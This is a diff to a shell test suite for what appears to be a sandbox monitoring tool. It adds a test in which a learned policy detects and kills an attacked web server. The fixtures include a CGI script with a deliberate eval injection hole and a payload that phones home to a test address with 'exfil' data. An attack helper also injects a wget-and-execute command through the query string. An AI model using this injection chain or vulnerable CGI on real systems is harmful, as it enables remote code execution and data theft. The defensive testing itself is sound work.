@@ -429,6 +429,12 @@ for i in range(400):
 
 attack_setup() {
   local id=$1
+  attack_setup_files
+  start_sandbox "$id" "/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+  attack_network
+}
+
+attack_setup_files() {
   # the sandbox has a /tmp of its own: serve from a host directory it sees
   WEB=$(mktemp -d /var/tmp/ward-act.XXXXXX)
   chmod 755 "$WEB"
@@ -441,13 +447,16 @@ host=$(echo "$QUERY_STRING" | sed 's/^host=//; s/%20/ /g; s/%3B/;/g')
 eval "echo pinging $host" 2>&1
 CGI
   cat > "$WEB/payload/p.sh" <<PAYLOAD
+#!/bin/sh
 echo pwned > /tmp/pwned && echo wrote-marker
 $PY -c 'import socket, sys; s = socket.create_connection(("10.213.8.1", 18088), timeout=2); s.sendall(b"exfil-" + sys.argv[1].encode()); print("called-home")' "\$1" 2>&1 | tail -1
 PAYLOAD
   chmod 755 "$WEB/www/cgi-bin/ping"
   chmod 644 "$WEB/payload/p.sh"
   chmod -R a+rX "$WEB"
-  start_sandbox "$id" "/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+}
+
+attack_network() {
   ip link add act-v0 type veth peer name act-v1 netns "$PID"
   ip addr add 10.213.8.1/30 dev act-v0
   ip link set act-v0 up
@@ -469,7 +478,7 @@ while True:
 
 # attack TAG: the injected request; prints the server's answer
 attack() {
-  local q="host=127.0.0.1%3B/bin/busybox%20wget%20-q%20-O%20/tmp/p.sh%20http://127.0.0.1:18081/p.sh%3Bsh%20/tmp/p.sh%20$1"
+  local q="host=127.0.0.1%3B/bin/busybox%20wget%20-q%20-O%20/tmp/p.sh%20http://127.0.0.1:18081/p.sh%3Bchmod%20755%20/tmp/p.sh%3B/tmp/p.sh%20$1"
   nsenter -t "$PID" -n timeout 10 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?$q" 2>&1 || true
 }
 
@@ -591,4 +600,38 @@ attack() {
   for i in $(seq 50); do kill -0 "$sink" 2>/dev/null || break; sleep 0.05; done
   ! kill -0 "$sink" 2>/dev/null || [ "$(ps -o stat= -p "$sink" | cut -c1)" = Z ]
   rm -rf "$RL_TMP"
+}
+
+@test "act: the attack detected by the engine and killed by its policy (learned template, monitor, high -> kill)" {
+  attack_setup_files
+  local start="/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+  # learn: the server and a benign request
+  "$WARD" --root "$WARD_ROOT" sandbox --name act-d0 --mode learn --template "$TEST_TMP/web.json" -- sh -c "$start" \
+    > "$TEST_TMP/learn.out" 2>&1 &
+  BG=$!
+  wait_running act-d0
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
+  sleep 0.5
+  w kill act-d0 KILL
+  wait "$BG" || true
+  [ -s "$TEST_TMP/web.json" ]
+  printf 'mode: monitor\ntemplate: %s\nactions:\n  high: kill\n  critical: kill\n' "$TEST_TMP/web.json" > "$TEST_TMP/web.policy.yaml"
+  # monitor: the same server, attacked
+  "$WARD" --root "$WARD_ROOT" sandbox --name act-d1 --policy "$TEST_TMP/web.policy.yaml" -- sh -c "$start" \
+    > "$TEST_TMP/act-d1.out" 2> "$TEST_TMP/act-d1.alerts" &
+  BG=$!
+  wait_running act-d1
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+  # the benign request is no alert worth a kill
+  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
+  kill -0 "$PID"
+  attack d1 || true
+  for i in $(seq 100); do kill -0 "$PID" 2>/dev/null || break; sleep 0.05; done
+  cat "$TEST_TMP/act-d1.alerts"
+  ! kill -0 "$PID" 2>/dev/null
+  wait "$BG" || true
+  # killed for a step of the attack (the injected wget, the payload), at high
+  grep '"action":"kill"' "$TEST_TMP/act-d1.alerts" | grep '"severity":"high"' | grep -q -E 'wget|p\.sh'
+  assert_clean act-d1
 }
